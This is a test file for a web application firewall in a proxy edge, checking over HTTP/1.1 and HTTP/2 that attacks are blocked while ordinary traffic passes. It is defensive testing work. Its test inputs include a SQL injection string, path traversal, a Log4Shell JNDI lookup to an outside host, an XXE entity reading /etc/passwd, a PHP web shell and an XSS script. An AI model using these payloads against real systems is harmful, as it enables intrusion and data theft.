/** The WAF in a real edge, over HTTP/1.1 and HTTP/2. */
import { gzipSync } from 'node:zlib'
import { type AccessLogOptions, accessLog, pipeline, proxy } from '@postern/core'
import { describe, expect, test } from 'vitest'
import { exchangeBytes, get1, raw1, request2, session2 } from '../../core/test/support/clients.ts'
import { edge, type Kind, origin, rawOrigin, testUpstream, until } from '../../core/test/support/servers.ts'
import { signatures, type WafOptions, type WafReport, waf } from '../src/index.ts'

const engine = signatures()
const INJECTION = "1' or '1'='1"
const ENCODED = encodeURIComponent(INJECTION)

/** An edge with a WAF before an origin that gives back the body, and what both of them saw. */
async function guarded(options: WafOptions = {}, kind: Kind = 'http') {
  const up = await origin()
  const reports: WafReport[] = []
  const lines: Record<string, unknown>[] = []
  const level = (line: unknown): void => void lines.push(line as Record<string, unknown>)
  const logger = { isLevelEnabled: () => true, info: level, warn: level, error: level }
  const app = pipeline()
    .use(accessLog({ logger: logger as unknown as NonNullable<AccessLogOptions['logger']> }))
    .use(waf(engine, { onFindings: report => void reports.push(report), ...options }))
    .route('/notes/:id', r => r.handle(proxy(testUpstream(up.url))))
    .handle(proxy(testUpstream(up.url)))
  return { up, reports, lines, ...(await edge(app, kind)) }
}

/** One request over whatever the edge speaks. */
async function send(
  to: { port: number; url: string },
  kind: Kind,
  request: { method?: string; path?: string; headers?: Record<string, string>; body?: Buffer | string },
): Promise<{ status: number; body: string }> {
  const { method = request.body === undefined ? 'GET' : 'POST', path = '/', headers = {}, body } = request
  if (kind === 'h2' || kind === 'h2c') {
    return request2(session2(to.url), { ':method': method, ':path': path, ...headers }, body)
  }
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`)
  const bytes = Buffer.from(body ?? '')
  const length = body === undefined ? '' : `Content-Length: ${bytes.length}\r\n`
  const head = `${method} ${path} HTTP/1.1\r\nHost: edge.test\r\n${lines.join('')}${length}Connection: close\r\n\r\n`
  return raw1(to.port, Buffer.concat([Buffer.from(head), bytes]) as unknown as string)
}

const JSON_TYPE = { 'content-type': 'application/json' }
const MULTIPART = { 'content-type': 'multipart/form-data; boundary=b' }
const upload = (filename: string, content: string): string =>
  `--b\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\n\r\n${content}\r\n--b--\r\n`

describe.each(['http', 'h2', 'h2c'] as const)('over %s', kind => {
  test.each([
    ['a query', { path: `/?id=${ENCODED}` }],
    ['a path', { path: '/static/%2e%2e%5c%2e%2e%5cetc/passwd' }],
    ['a cookie', { headers: { cookie: `id=${ENCODED}` } }],
    ['a header', { headers: { 'x-api-version': `$${'{jndi:ldap://198.51.100.7/a}'}` } }],
    [
      'a form',
      { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `a=1&b=${ENCODED}` },
    ],
    ['JSON', { headers: JSON_TYPE, body: '{"a":["1\\u0027 or \\u00271\\u0027=\\u00271"]}' }],
    ['a file name', { headers: MULTIPART, body: upload('../../../etc/passwd', 'x') }],
    ['a file', { headers: MULTIPART, body: upload('a.txt', '<?php system($_GET["c"]); ?>') }],
    [
      'XML',
      {
        headers: { 'content-type': 'text/xml' },
        body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      },
    ],
    [
      'gzip',
      {
        headers: { ...JSON_TYPE, 'content-encoding': 'gzip' },
        body: gzipSync(JSON.stringify({ a: INJECTION })),
      },
    ],
    ['a body of DELETE', { method: 'DELETE', headers: JSON_TYPE, body: JSON.stringify(INJECTION) }],
    ['bad form', { headers: JSON_TYPE, body: '{"a":1,"a":2}' }],
  ] as const)('%s is blocked, and the origin never hears of it', async (_, request) => {
    const to = await guarded({}, kind)
    const { status, body } = await send(to, kind, request)
    // A path that is ambiguous to begin with is refused before any filter.
    expect([403, 400]).toContain(status)
    if (status === 403) {
      expect(body).toBe('403 forbidden\n')
      expect(to.reports).toHaveLength(1)
    }
    expect(to.up.seen).toEqual([])
  })

  test('what is ordinary goes on, byte for byte', async () => {
    const to = await guarded({}, kind)
    const text = JSON.stringify({ name: "O'Reilly", note: 'select a seat from 1 = front or 2 = back' })
    const packed = gzipSync(text)
    expect(await send(to, kind, { headers: JSON_TYPE, body: text })).toMatchObject({
      status: 200,
      body: text,
    })
    expect(
      (await send(to, kind, { headers: { ...JSON_TYPE, 'content-encoding': 'gzip' }, body: packed })).status,
    ).toBe(200)
    expect(to.up.seen.map(({ body }) => body)).toEqual([Buffer.from(text), packed])
    expect((await send(to, kind, { path: "/a?q=O'Reilly" })).status).toBe(200)
    expect(to.up.seen[2]!.target).toBe("/a?q=O'Reilly")
  })

  test('in shadow mode it goes on, and is told', async () => {
    const to = await guarded({ mode: 'shadow' }, kind)
    expect((await send(to, kind, { path: `/?id=${ENCODED}` })).status).toBe(200)
    expect(to.up.seen).toHaveLength(1)
    expect(to.reports[0]).toMatchObject({ blocked: true, mode: 'shadow' })
  })

  test('an exception holds for its route and its field', async () => {
    const exceptions = [{ route: '/notes/:id', place: 'json.posts[*].body' }]
    const to = await guarded({ exceptions }, kind)
    const post = (path: string, value: unknown) =>
      send(to, kind, { path, headers: JSON_TYPE, body: JSON.stringify(value) })
    expect((await post('/notes/1', { posts: [{ body: INJECTION }] })).status).toBe(200)
    expect((await post('/notes/1', { posts: [{ title: INJECTION }] })).status).toBe(403)
    expect((await post('/other', { posts: [{ body: INJECTION }] })).status).toBe(403)
  })

  test('a body past the limit is 413, and nothing of it goes on', async () => {
    const to = await guarded({ maxBody: 64 << 10 }, kind)
    const body = JSON.stringify({ a: 'x'.repeat(70 << 10), b: INJECTION })
    expect((await send(to, kind, { headers: JSON_TYPE, body })).status).toBe(413)
    expect(to.up.seen).toEqual([])
  })
})

test('the log tells rules and places, and no secret', async () => {
  const to = await guarded()
  await get1(to.port, `/?password=${ENCODED}`, ['Cookie: sid=abc123'])
  await until('the line', () => to.lines.length === 1)
  const line = to.lines[0]!
  expect(line).toMatchObject({ status: 403, filter: 'waf', reason: 'waf-sqli' })
  expect(line.waf).toMatch(/^blocked \d+\/5 sqli-[\w-]+@query\.password/)
  expect(JSON.stringify(line)).not.toMatch(/1' or|%27|abc123/)
})

test('chunked at any place gives the same findings as whole', async () => {
  const text = upload("x' or '1'='1", '<script>alert(1)</script>')
  const head = 'POST /?q=1 HTTP/1.1\r\nHost: edge.test\r\nContent-Type: multipart/form-data; boundary=b\r\n'
  const whole = await guarded({ mode: 'shadow' })
  await raw1(whole.port, `${head}Content-Length: ${text.length}\r\nConnection: close\r\n\r\n${text}`)
  expect(whole.reports[0]!.findings.length).toBeGreaterThan(1)
  const cut = await guarded({ mode: 'shadow' })
  for (let at = 1; at < text.length; at += 7) {
    const chunks = [text.slice(0, at), text.slice(at, at + 3), text.slice(at + 3)].filter(
      piece => piece !== '',
    )
    const framed = chunks.map(piece => `${piece.length.toString(16)}\r\n${piece}\r\n`).join('')
    await exchangeBytes(
      cut.port,
      `${head}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n${framed}0\r\n\r\n`,
      20,
    )
  }
  expect(cut.reports.length).toBeGreaterThan(10)
  for (const report of cut.reports) expect(report).toEqual(whole.reports[0])
})

test('a chunked body past the limit is cut, with no byte forwarded', async () => {
  const up = await rawOrigin(() => {})
  const app = pipeline()
    .use(waf(engine, { maxBody: 64 << 10 }))
    .handle(proxy(testUpstream(up.url)))
  const { port } = await edge(app)
  const chunk = `4000\r\n${'a'.repeat(0x4000)}\r\n`.repeat(6)
  const { text } = await exchangeBytes(
    port,
    `POST / HTTP/1.1\r\nHost: a.test\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n${chunk}`,
    300,
  )
  expect(text).toMatch(/^HTTP\/1\.1 413/)
  expect(up.received()).toBe('')
})

test('an upload that breaks off reaches nobody', async () => {
  const to = await guarded()
  await exchangeBytes(to.port, 'POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 100\r\n\r\n{"a":', 50)
  await until('the end', () => to.lines.length === 1)
  expect(to.lines[0]).toMatchObject({ status: 499 })
  expect(to.up.seen).toEqual([])
})

test('B090: what streams back still streams', async () => {
  let next: (() => void) | null = null
  const up = await origin(res => {
    res.writeHead(200, { 'Content-Type': 'text/event-stream' })
    res.write('data: one\n\n')
    next = () => res.end('data: two\n\n')
  })
  const app = pipeline()
    .use(waf(engine))
    .handle(proxy(testUpstream(up.url)))
  const { url } = await edge(app)
  const body = (await fetch(url)).body!.getReader()
  expect(Buffer.from((await body.read()).value!).toString()).toBe('data: one\n\n')
  next!()
  expect(Buffer.from((await body.read()).value!).toString()).toBe('data: two\n\n')
})

test('many at once keep nothing of one another', async () => {
  const to = await guarded()
  const statuses = await Promise.all(
    Array.from({ length: 60 }, async (_, i) => {
      const text = i % 3 === 0 ? INJECTION : 'fine'
      const got = await fetch(to.url, {
        method: 'POST',
        headers: JSON_TYPE,
        body: JSON.stringify({ n: i, text }),
      })
      return [got.status, i % 3 === 0 ? 403 : 200]
    }),
  )
  for (const [status, expected] of statuses) expect(status).toBe(expected)
})
